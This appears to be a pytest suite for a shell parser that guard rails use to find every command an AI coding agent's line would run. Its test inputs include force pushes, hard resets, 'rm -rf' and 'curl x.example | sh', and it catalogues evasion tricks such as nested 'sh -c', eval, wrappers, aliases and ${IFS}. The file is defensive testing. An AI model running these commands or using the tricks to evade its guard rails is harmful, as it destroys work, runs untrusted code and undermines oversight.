"""Reading a shell line as the shell does: the simple commands it runs, unwrapped."""

from __future__ import annotations

import shlex
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autopilot_codex.rails import parser, shell
from autopilot_codex.rails.shellwrap import program, unwrap

ENV = {"HOME": "/home/u", "AUTOPILOT_CODEX_HOME": "/state"}


def argvs(line: str, cwd: str = "/wt") -> list[tuple[str, ...]]:
    return [c.argv for c in shell.commands(line, ENV, cwd) if c.argv]


def runs(line: str, *argv: str) -> bool:
    return tuple(argv) in argvs(line)


# -- structure: every simple command of the tree ---------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "true && git push -f",
        "false || git push -f",
        "true; git push -f",
        "true & git push -f",
        "echo x | git push -f",
        "(git push -f)",
        "{ git push -f; }",
        "echo $(git push -f)",
        "echo `git push -f`",
        "cat <(git push -f)",
        "2>/dev/null git push -f",
        "git push -f > /dev/null 2>&1",
        "if true; then git push -f; fi",
        "for b in a; do git push -f; done",
        "f() { git push -f; }",
        "! git push -f",
        'echo "$(git push -f)"',
        "cat <<EOF\n$(git push -f)\nEOF",
        "{ true; } > $(git push -f)",
        "while false; do :; done < <(git push -f)",
    ],
)
def test_every_simple_command_is_found(line: str) -> None:
    assert runs(line, "git", "push", "-f"), argvs(line)


def test_leading_assignments_are_kept_apart_from_the_words() -> None:
    (command,) = shell.commands("GIT_TRACE=1 A=2 git push -f", ENV, "/wt")
    assert command.argv == ("git", "push", "-f")
    assert command.assigned == ("GIT_TRACE", "A")
    (command,) = shell.commands("A+=1 git status", ENV, "/wt")
    assert command.assigned == ("A",)


def test_redirect_targets_and_heredocs_are_recorded() -> None:
    (command,) = shell.commands("python3 - > out.txt <<'EOF'\nprint(1)\nEOF", ENV, "/wt")
    assert command.redirects == ("out.txt",)
    assert command.stdin == "print(1)\n"
    (command,) = shell.commands("xargs rm <<< 'a b'", ENV, "/wt")
    assert command.argv == ("rm", "a", "b")
    # a redirection written after the heredoc's delimiter belongs to the command too
    (command,) = shell.commands("cat <<EOF > out.txt\nhi\nEOF", ENV, "/wt")
    assert (command.redirects, command.stdin) == (("out.txt",), "hi\n")
    # a here-string is known input, not an unknown pipe
    first = shell.commands("sh <<< ls", ENV, "/wt")[0]
    assert (first.stdin, first.piped) == ("ls\n", False)
    # a group's redirection is its own entry, judged like a command's
    assert [c.redirects for c in shell.commands("{ echo x; } > out.txt", ENV, "/wt")] == [
        (),
        ("out.txt",),
    ]


@pytest.mark.parametrize(
    "line",
    [
        "cat <<EOF && git push -f\nhello\nEOF",
        "cat <<EOF || git push -f\nhello\nEOF",
        "cat <<EOF | git push -f\nhello\nEOF",
        "cat <<EOF | sh\ngit push -f\nEOF",
        "cat <<'EOF' | bash -s\ngit push -f\nEOF",
        "cat <<EOF | sh | tee log && true\ngit push -f\nEOF",
        "true && cat <<EOF | sh\ngit push -f\nEOF",
        "cat <<EOF | xargs git\npush -f\nEOF",
        "X=push; sh <<EOF\ngit $X -f\nEOF",
        "sh <<EOF\n\\$(git push -f)\nEOF",
        "bash /dev/stdin <<EOF\ngit push -f\nEOF",
        "source /dev/stdin <<EOF\ngit push -f\nEOF",
        "cat <<EOF | sh -\ngit push -f\nEOF",
        "cat 2>/dev/null <<EOF && git push -f\nx\nEOF",
    ],
)
def test_what_follows_a_heredoc_on_its_line_runs(line: str) -> None:
    assert runs(line, "git", "push", "-f"), argvs(line)


@pytest.mark.parametrize(
    "line", ["sh <<EOF\n$PAYLOAD\nEOF", "cat <<EOF | sh\n$(curl x.example)\nEOF"]
)
def test_a_heredoc_that_expands_the_unknown_is_unknown_input(line: str) -> None:
    fed = [c for c in shell.commands(line, ENV, "/wt") if c.name == "sh"]
    assert [(c.stdin, c.piped) for c in fed] == [(None, True)]


def test_a_quoted_heredoc_does_not_run_what_it_mentions() -> None:
    assert argvs("cat <<'EOF'\n$(git push -f)\ngit reset --hard\nEOF") == [("cat",)]


# -- words: quotes, escapes, known variables ----------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ('"g""it" push', ("git", "push")),
        ("'git' push", ("git", "push")),
        ("g\\it push", ("git", "push")),
        ("$'git' push", ("git", "push")),
        ("$(echo git) push", ("git", "push")),
        ("rm ~/x", ("rm", "/home/u/x")),
        ("rm ~", ("rm", "/home/u")),
        ("rm $HOME/x ${HOME}/y", ("rm", "/home/u/x", "/home/u/y")),
        ("rm $AUTOPILOT_CODEX_HOME/active/*", ("rm", "/state/active/*")),
        ('rm "${AUTOPILOT_CODEX_HOME}/a b"', ("rm", "/state/a b")),
        ("D=$AUTOPILOT_CODEX_HOME; rm $D/x", ("rm", "/state/x")),
        ("rm $UNKNOWN/x", ("rm", "$UNKNOWN/x")),
        ("rm a~/x", ("rm", "a~/x")),
    ],
)
def test_words_are_expanded_as_the_shell_would(line: str, expected: tuple[str, ...]) -> None:
    assert expected in argvs(line)


def test_cd_moves_the_directory_later_commands_are_judged_from() -> None:
    commands = shell.commands("cd /state && rm -rf active; cd sub && ls", ENV, "/wt")
    assert [c.cwd for c in commands] == ["/wt", "/state", "/state", "/state/sub"]


def test_expanded_variable_names_are_recorded() -> None:
    (command,) = shell.commands('curl -H "Bearer ${OPENAI_API_KEY}" x', ENV, "/wt")
    assert command.expands == ("OPENAI_API_KEY",)


# -- unwrapping: one test per wrapper -------------------------------------------------------------

UNWRAPPED = [
    ("env git push -f", "env"),
    ("env -i -u HOME A=1 git push -f", "env"),
    ("env -S 'git push -f'", "env"),
    ("command git push -f", "command"),
    ("builtin git push -f", "builtin"),
    ("exec -a name git push -f", "exec"),
    ("nohup git push -f", "nohup"),
    ("time -p git push -f", "time"),
    ("timeout -s KILL 10 git push -f", "timeout"),
    ("nice -n 10 git push -f", "nice"),
    ("stdbuf -o L git push -f", "stdbuf"),
    ("sudo -u root -E git push -f", "sudo"),
    ("doas -u root git push -f", "doas"),
    ("setsid git push -f", "setsid"),
    ("uv run --with x git push -f", "uv"),
    ("pipx run git push -f", "pipx"),
    ("uvx --from x git push -f", "uvx"),
    ("npx -p x git push -f", "npx"),
    ("bash bin/git push -f", "bash"),
    ("source ./git push -f", "source"),
    ("watch -x git push -f", "watch"),
]


@pytest.mark.parametrize(("line", "wrapper"), UNWRAPPED)
def test_wrappers_are_removed(line: str, wrapper: str) -> None:
    commands = shell.commands(line, ENV, "/wt")
    found = [c for c in commands if c.argv == ("git", "push", "-f")]
    assert found, argvs(line)
    assert wrapper in found[0].wrappers


def test_wrappers_nest() -> None:
    line = "sudo env A=1 nohup timeout 5 nice /usr/bin/git push -f"
    (command,) = shell.commands(line, ENV, "/wt")
    assert command.argv == ("git", "push", "-f")
    assert command.wrappers == ("sudo", "env", "nohup", "timeout", "nice")
    assert command.assigned == ("A",)


def test_a_declaration_keeps_its_own_name() -> None:
    assert argvs("export -p") == [("export", "-p")]
    assert argvs("declare -x A=1") == [("declare", "-x", "A=1")]


def test_command_v_only_looks_a_name_up() -> None:
    assert argvs("command -v git") == [("command", "-v", "git")]


def test_bare_env_stays_env() -> None:
    assert argvs("env") == [("env",)]
    assert argvs("env -u X") == [("env", "-u", "X")]


def test_env_unset_counts_as_assigning() -> None:
    (command,) = shell.commands("env -u AUTOPILOT_CODEX_HOME git status", ENV, "/wt")
    assert command.assigned == ("AUTOPILOT_CODEX_HOME",)


def test_a_path_to_a_binary_is_the_binary() -> None:
    assert program("/usr/bin/git") == "git"
    assert program("./node_modules/.bin/tsc") == "tsc"
    assert program("git") == "git"
    assert runs("/usr/local/bin/git push -f", "git", "push", "-f")


@pytest.mark.parametrize(
    "line",
    [
        "echo --hard | xargs git reset",
        "printf -- '--hard' | xargs git reset",
        "echo --hard | xargs -I{} git reset {}",
        "xargs git reset <<< --hard",
    ],
)
def test_xargs_input_joins_the_command(line: str) -> None:
    assert runs(line, "git", "reset", "--hard"), argvs(line)


@pytest.mark.parametrize(
    "line",
    [
        "sh -c 'git push -f'",
        'bash -c "git push -f"',
        "bash -lc 'git push -f'",
        "zsh -o errexit -c 'git push -f'",
        "dash -c 'cd x; git push -f' name",
        "eval 'git push -f'",
        "eval git push -f",
        "echo 'git push -f' | sh",
        "bash <<'EOF'\ngit push -f\nEOF",
        "sh -s <<< 'git push -f'",
        "watch -n 5 'git push -f'",
        "find . -exec git push -f \\;",
        "git -c alias.p='!git push -f' p",
        "git config alias.p '!git push -f'",
        "git config --global alias.p 'push -f'",
        "sh -c \"bash -c 'eval git push -f'\"",
    ],
)
def test_shell_strings_are_parsed_again(line: str) -> None:
    assert runs(line, "git", "push", "-f"), argvs(line)


def test_nesting_is_bounded() -> None:
    line = "git push -f"
    for _ in range(shell.MAX_DEPTH + 2):
        line = f"sh -c {__import__('shlex').quote(line)}"
    commands = shell.commands(line, ENV, "/wt")
    assert any(c.too_deep for c in commands)
    assert not any(c.argv == ("git", "push", "-f") for c in commands)


def test_four_nested_shells_are_read_and_five_are_not() -> None:
    # The figures the rails' table documents (`unreadable`: "more than 4 deep").
    line = "git push -f"
    for _ in range(4):
        line = f"sh -c {shlex.quote(line)}"
    commands = shell.commands(line, ENV, "/wt")
    assert not any(c.too_deep for c in commands) and runs(line, "git", "push", "-f")
    assert any(c.too_deep for c in shell.commands(f"sh -c {shlex.quote(line)}", ENV, "/wt"))


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["git", "-C", "x", "push"], ["git", "push"]),
        (["git", "-c", "k=v", "push"], ["git", "push"]),
        (["git", "--git-dir=.git", "reset"], ["git", "reset"]),
        (["git", "--git-dir", ".git", "--work-tree", ".", "reset"], ["git", "reset"]),
        (["git", "--no-pager", "--exec-path", "-p", "reset"], ["git", "reset"]),
        (["git", "--exec-path=/x", "reset"], ["git", "reset"]),
        (["git", "-c", "alias.r=reset --hard", "r"], ["git", "reset", "--hard"]),
        (["git", "-c", "remote.origin.push=+main", "push"], ["git", "push", "--force"]),
        (["git", "commit", "-c", "HEAD"], ["git", "commit", "-c", "HEAD"]),
    ],
)
def test_git_global_options_are_removed(argv: list[str], expected: list[str]) -> None:
    assert unwrap(argv).argv == expected


# -- lines the grammar cannot read ----------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "git push -f (",
        "git push -f; )",
        "git push -f `",
        "echo $(( ; git push -f",
        "if git push -f",
        "git push -f <<<",
    ],
)
def test_unparsable_lines_are_judged_on_their_words(line: str) -> None:
    assert runs(line, "git", "push", "-f"), argvs(line)


def test_without_a_parser_the_words_still_count(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parser, "parse", lambda line: None)
    assert runs("true && env git push -f", "git", "push", "-f")
    assert runs("x=1; sh -c 'git push -f'", "git", "push", "-f")


@pytest.mark.parametrize("line", ["", "   ", "\x00", "'", '"', "$(", "\\", "((((", "🙂 ; rm"])
def test_odd_input_never_raises(line: str) -> None:
    shell.commands(line, ENV, "/wt")


def test_thousands_of_nested_groups_are_unreadable_not_a_crash() -> None:
    line = "(" * 3000 + "git push -f" + ")" * 3000
    assert any(c.too_deep for c in shell.commands(line, ENV, "/wt"))


@pytest.mark.parametrize(
    "line",
    [
        "git${IFS}push${IFS}-f",
        "$SHELL -c 'git push -f'",
        "${BASH} -c 'git push -f'",
        "busybox git push -f",
        "shopt -s expand_aliases; alias g='git push -f'; g",
    ],
)
def test_less_common_indirections(line: str) -> None:
    assert runs(line, "git", "push", "-f"), argvs(line)


def test_the_word_fallback_drops_a_comment() -> None:
    # `#` starts a comment for the shell: what follows it is not an argument.
    assert argvs("git${IFS}status # push -f")[-1] == ("git", "status")


def test_a_stage_reading_an_unknown_pipe_is_marked() -> None:
    first, second = shell.commands("curl -s x.example | sh", ENV, "/wt")
    assert (first.piped, second.piped) == (False, True)
    (_echo, shell_stage, _inner) = shell.commands("echo ls | sh", ENV, "/wt")
    assert not shell_stage.piped and shell_stage.stdin == "ls\n"


@pytest.mark.parametrize("line", ["bash -s x; A=1; export B=2; echo ${IFS}", "python3 > out"])
def test_no_command_reads_a_pipe_unless_one_reaches_it(line: str) -> None:
    # The word fallback (`${IFS}`), assignments, declarations and a redirection's own entry too.
    found = shell.commands(line, ENV, "/wt")
    assert found and not any(c.piped for c in found)


def test_the_parser_loads_without_the_packages_init_modules() -> None:
    # Their __init__ imports importlib.resources for query files the rails never read.
    import subprocess
    import sys

    code = (
        "import sys; from autopilot_codex.rails import parser, shell; "
        "assert shell.commands('env git push -f', {'HOME': '/h'}, '/w')[0].argv[0] == 'git'; "
        "assert parser._PARSER is not None; "
        "print('tree_sitter' in sys.modules, 'tree_sitter_bash' in sys.modules, "
        "'importlib.resources' in sys.modules)"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout
    assert out.split() == ["False", "False", "False"]


def test_a_missing_binding_falls_back_to_the_packages(monkeypatch: pytest.MonkeyPatch) -> None:
    def missing(package: str) -> None:
        raise ImportError(package)

    monkeypatch.setattr(parser, "_binding", missing)
    assert parser.load().parse(b"ls").root_node.type == "program"


_PIECES = st.sampled_from(
    [*"ab -|&;()${}`'\"\\<>\n=~*#!", "git ", "sh -c ", "<<EOF\n", "$(", "xargs "]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=40).map("".join))
def test_any_text_gives_commands_and_never_raises(line: str) -> None:
    for command in shell.commands(line, ENV, "/wt"):
        assert isinstance(command.argv, tuple)


# -- a grammar of command trees: every simple command it produces is emitted ---------------------

_NAMES = ("c1", "c2", "c3")
# What runs a heredoc as a script: piped from cat, or read directly.
FEEDERS = [
    "cat|sh",
    "cat|bash -s",
    "cat|env bash -",
    "sh",
    "bash",
    "bash /dev/stdin",
    "source /dev/stdin",
]
_LEAF = st.tuples(
    st.sampled_from(_NAMES), st.lists(st.sampled_from(["a", "-f", "x.txt"]), max_size=2)
)


def _trees(leaf: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    def grow(inner: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
        return st.one_of(
            st.tuples(st.just("list"), st.sampled_from(["&&", "||", ";"]), inner, inner),
            st.tuples(st.just("pipe"), inner, inner),
            st.tuples(st.just("subst"), inner),
            st.tuples(st.just("group"), st.sampled_from(["()", "{}"]), inner),
            st.tuples(st.just("shc"), st.sampled_from(["sh", "bash"]), inner),
            st.tuples(st.just("then"), st.sampled_from(["&&", "||", "|"]), inner),
            st.tuples(st.just("fed"), st.sampled_from(FEEDERS), inner),
        )

    wrapped = st.tuples(
        st.just("wrap"), st.sampled_from(["env", "env A=1", "nice", "nice -n 5", "timeout 5"]), leaf
    )
    return st.recursive(st.one_of(st.tuples(st.just("cmd"), leaf), wrapped), grow, max_leaves=8)


class _Render:
    """Render a tree as a shell line plus the heredoc bodies that follow it, and the commands."""

    def __init__(self) -> None:
        self.delimiters = 0
        self.expected: list[tuple[str, ...]] = []

    def script(self, tree: Any) -> str:
        line, bodies = self.line(tree)
        return line + "\n" + "".join(bodies)

    def heredoc(self) -> str:
        self.delimiters += 1
        return f"D{self.delimiters}"

    def line(self, tree: Any) -> tuple[str, list[str]]:
        kind = tree[0]
        if kind == "cmd":
            name, args = tree[1]
            self.expected.append((name, *args))
            return " ".join((name, *args)), []
        if kind == "wrap":
            name, args = tree[2]
            self.expected.append((name, *args))
            return " ".join((tree[1], name, *args)), []
        if kind == "list":
            left, lbodies = self.line(tree[2])
            right, rbodies = self.line(tree[3])
            return f"{left} {tree[1]} {right}", lbodies + rbodies
        if kind == "pipe":
            left, lbodies = self.line(tree[1])
            right, rbodies = self.line(tree[2])
            return f"{left} | {right}", lbodies + rbodies
        if kind == "subst":
            return f"echo $({self.script(tree[1])})", []
        if kind == "group":
            inner = self.script(tree[2])
            return (f"( {inner})", []) if tree[1] == "()" else (f"{{ {inner}}}", [])
        if kind == "shc":
            return f"{tree[1]} -c {shlex.quote(self.script(tree[2]))}", []
        if kind == "then":
            end = self.heredoc()
            right, bodies = self.line(tree[2])
            return f"cat <<{end} {tree[1]} {right}", [f"hello\n{end}\n", *bodies]
        end = self.heredoc()
        body = self.script(tree[2])
        quoted = f"'{end}'" if "$" in body else end
        feeder = (
            f"cat <<{quoted} | {tree[1][4:]}"
            if tree[1].startswith("cat|")
            else (f"{tree[1]} <<{quoted}")
        )
        return feeder, [f"{body}{end}\n"]


@settings(max_examples=400, deadline=None)
@given(_trees(_LEAF))
def test_every_command_of_a_generated_tree_is_emitted(tree: Any) -> None:
    render = _Render()
    line = render.script(tree)
    emitted = argvs(line)
    for argv in render.expected:
        assert argv in emitted, (line, argv, emitted)
